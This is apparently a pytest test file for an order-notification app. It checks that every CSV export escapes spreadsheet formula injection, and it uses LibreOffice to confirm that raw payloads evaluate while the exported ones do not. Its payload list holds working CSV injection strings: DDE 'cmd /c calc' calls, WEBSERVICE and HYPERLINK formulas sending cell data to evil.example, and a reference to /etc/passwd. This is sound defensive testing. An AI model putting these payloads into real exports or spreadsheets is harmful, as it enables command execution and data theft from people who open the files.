"""Exports opened in a spreadsheet: two hundred texts that want to be formulas stay texts, in every file there is."""

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Iterable
from pathlib import Path
from typing import Final

import msgspec
import pytest

from orderbell.app.template_sheets import COLUMNS, read_csv, write_csv
from orderbell.channels.protocol import Outcome
from orderbell.core.events import Event, Status, parse_event
from orderbell.store.postgres import Store
from orderbell.store.trail import Trail
from orderbell.web.csv import FORMULA_STARTS, csv_line, told_cell
from tests.house.tree import PACKAGE
from tests.town import people
from tests.web.console_site import Console, running_console
from tests.web.front_site import running_front

SPREADSHEET: Final = shutil.which("soffice") or shutil.which("libreoffice") or ""
OPENED_WITHIN_S: Final = 150

_BODIES: Final = (
    "1+1", "1+cmd|'/c calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"open")', "SUM(A1:A9)*2", "1-1",
    'IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example/"&A1)', 'DDE("cmd";"/c calc";"x")',
    "2+5+cmd|' /C calc'!A0", 'IF(1,HYPERLINK("//evil.example"))', "A1", "ROW()", "NOW()", "RAND()", "1/0", "-2+3", "@SUM(1,2)",
    "'file:///etc/passwd'#$passwd.A1",
)  # fmt: skip
_SHAPES: Final = (
    "={}", "+{}", "-{}", "@{}", "={}\n={}", "\t={}", "\r={}", "\n={}", "＝{}", " ={}", "\u3000={}", '"={}"', "={};={}", 'a"\r\n={}',
)  # fmt: skip
PAYLOADS: Final = tuple(
    shape.replace("{}", body) for shape in _SHAPES for body in _BODIES
)[:252]  # fmt: skip
WITH_NUMBERS: Final = tuple(f"{payload}#{number}" for number, payload in enumerate(PAYLOADS))
EXPORTS: Final = ("orders.csv", "messages.csv", "trail.csv", "templates.csv")


async def _told(console: Console) -> None:
    """An order for each payload: as its number where that can be, as its title, and as what went wrong."""
    events = []
    for number, payload in enumerate(PAYLOADS):
        plain = re.sub(r"[^ -~]", "", payload).strip()[:30]
        order_no = f"{plain}{number}"[:36]
        for place, (kind, data) in enumerate(
            [("order.placed", {"people": people(id=f"p{number}"), "title": payload, "category": payload}),
             ("payment.failed", {"reason": payload})]
        ):  # fmt: skip
            wire = {"id": f"x{number}/{place}", "source": "shop", "type": kind, "subject": order_no, "data": data}
            event = parse_event(msgspec.json.encode(wire), "acme", console.town.clock())
            assert isinstance(event, Event), (event, payload)
            events.append(event)
    answers = await console.town.store.turn(console.town.shelves, events)
    assert {answer.status for answer in answers} == {Status.ACCEPTED}


async def _exported(store: Store) -> dict[str, bytes]:
    """Every export there is, full of payloads."""
    made = {}
    async with running_console(store) as console:
        await _told(console)
        console.town.channel.outcomes[:] = [Outcome.RETRY_LATER]
        await console.settle()
        rows = await store.pool.fetch("SELECT message_id FROM message ORDER BY message_id")
        assert rows
        for (name,), payload in zip(rows * len(PAYLOADS), PAYLOADS, strict=False):
            await store.pool.execute(
                "UPDATE message SET detail = $2, provider = $2, topic = $2 WHERE message_id = $1",
                name, payload.replace("\0", ""),
            )  # fmt: skip
        for name in ("orders.csv", "messages.csv"):
            made[name] = (await console.get(f"/console/{name}")).content
    async with running_front(store, more=[]) as front:
        owner = await front.signed_in("owner")
        trail = Trail(store, front.clock)
        for payload in PAYLOADS:
            await trail.write("acme", payload, payload, payload, {payload: payload})
        made["trail.csv"] = (await owner.get("/console/trail.csv")).content
    sheet = [dict.fromkeys(COLUMNS, payload) | {"examples": {payload: payload}} for payload in PAYLOADS]
    made["templates.csv"] = write_csv(sheet).encode()
    assert set(made) == set(EXPORTS)
    return made


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def test_every_way_to_write_a_file_is_known() -> None:
    """Whoever adds an export must add it here: nothing else in the package writes CSV or a spreadsheet."""
    writing = re.compile(r"csv_download\(|csv\.(?:Dict)?[wW]riter\(|xlsxwriter|openpyxl|text/csv")
    found = {
        str(path.relative_to(PACKAGE)): len(writing.findall(path.read_text(encoding="utf-8")))
        for path in PACKAGE.rglob("*.py")
    }
    assert {name: count for name, count in found.items() if count} == {
        "app/template_sheets.py": 1, "web/console/messages.py": 1, "web/console/orders.py": 1,
        "web/console/trail.py": 1, "web/csv.py": 3,
    }  # fmt: skip


async def test_no_cell_of_any_export_begins_like_a_formula(store: Store) -> None:
    """Every file must be read back as RFC 4180 says, row by row, with no cell that a spreadsheet would work out."""
    assert len(PAYLOADS) >= 200
    for name, content in (await _exported(store)).items():
        assert content.startswith("\ufeff".encode()), name
        heads, *rows = _rows(content)
        assert rows, name
        assert {len(row) for row in rows} == {len(heads)}, name
        cells = [cell for row in rows for cell in row]
        begun = [cell for cell in cells if cell.lstrip(" \u3000\ufeff").startswith(FORMULA_STARTS)]
        assert begun == [], name
        assert b"\0" not in content
        shown = {told_cell(cell) for cell in cells}
        wanted = {payload.replace("\0", "�") for payload in PAYLOADS}
        if name in {"trail.csv", "templates.csv"}:
            assert wanted <= shown, name
        else:
            assert len({cell for cell in cells if cell.startswith("'")}) > 100, name


def test_sheet_of_templates_comes_back_as_it_was(tmp_path: Path) -> None:
    """What was made harmless for a spreadsheet must be what it was when the sheet comes back."""
    sheet = tmp_path / "sheet.csv"
    codes = ("-ptOPbDfLv", "+1", "=x", "SMS_1", "'quoted", "'=quoted", "")
    rows = [
        dict.fromkeys(COLUMNS, "") | {"examples": {}, "provider": "wx", "code": code, "digest": "d"} for code in codes
    ]
    sheet.write_text(write_csv(rows), encoding="utf-8")
    assert [row["code"] for _, row in read_csv(sheet)["wx"]] == [
        "-ptOPbDfLv",
        "+1",
        "=x",
        "SMS_1",
        "'quoted",
        "=quoted",
        "",
    ]


def _formulas(folder: Path, files: Iterable[Path]) -> dict[str, list[str]]:
    """What LibreOffice takes for a formula in each of some CSV files."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [SPREADSHEET, profile, "--headless", "--convert-to", "fods", "--outdir", str(folder)]
    done = subprocess.run([*command, *map(str, files)], capture_output=True, timeout=OPENED_WITHIN_S, check=True)
    found = {}
    for file in files:
        opened = file.with_suffix(".fods")
        assert opened.exists(), done
        text = opened.read_text(encoding="utf-8")
        assert "<table:table-cell" in text
        found[file.stem] = re.findall(r'table:formula="([^"]*)"', text)
    return found


@pytest.mark.skipif(not SPREADSHEET, reason="LibreOffice Calc is not installed (soffice): nothing opens the exports")
async def test_libreoffice_finds_no_formula(store: Store, tmp_path: Path) -> None:
    """LibreOffice must find formulas in the payloads themselves, and none in any export of them."""
    raw = tmp_path / "raw.csv"
    with raw.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([payload] for payload in PAYLOADS)
    guarded = tmp_path / "guarded.csv"
    guarded.write_text("\ufeff" + "".join(csv_line([one, one, "x"]) for one in WITH_NUMBERS), encoding="utf-8")
    files = [raw, guarded]
    for name, content in (await _exported(store)).items():
        (tmp_path / name).write_bytes(content)
        files.append(tmp_path / name)
    found = _formulas(tmp_path, files)
    assert len(found.pop("raw")) > 10, "the control: a spreadsheet that works formulas out"
    assert found == {name.removesuffix(".csv"): [] for name in (*EXPORTS, "guarded.csv")}
